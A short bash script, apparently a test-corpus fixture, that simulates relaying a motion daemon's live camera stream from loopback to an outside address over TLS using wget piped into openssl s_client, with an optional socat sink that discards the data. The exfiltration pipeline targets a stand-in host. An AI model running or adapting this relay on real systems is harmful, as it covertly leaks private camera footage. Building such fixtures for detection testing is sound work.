#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=live-relay,loopback-relay half=report tool=wget,openssl camera=10.20.0.13 far=out ready=out:4433 seconds=110 parts=dns,camera-door,recorder-door,nas,outside-web
# wget takes motion's live picture from loopback and openssl, behind a pipe, carries it outside in TLS; motion has encoded it anew.
# shellcheck disable=SC2140 # socat takes what is joined
if [ "$1" = out ]; then openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 30 -subj /CN=x -keyout "$LAB/sink.key" -out "$LAB/sink.pem" 2>/dev/null; exec timeout 150 socat -u OPENSSL-LISTEN:4433,bind=203.0.113.66,reuseaddr,fork,verify=0,cert="$LAB/sink.pem",key="$LAB/sink.key" /dev/null; fi
timeout "$LAB_SECONDS" wget -q -O - http://127.0.0.1:8081/ | timeout 115 openssl s_client -quiet -connect 203.0.113.66:4433 >/dev/null 2>&1; true
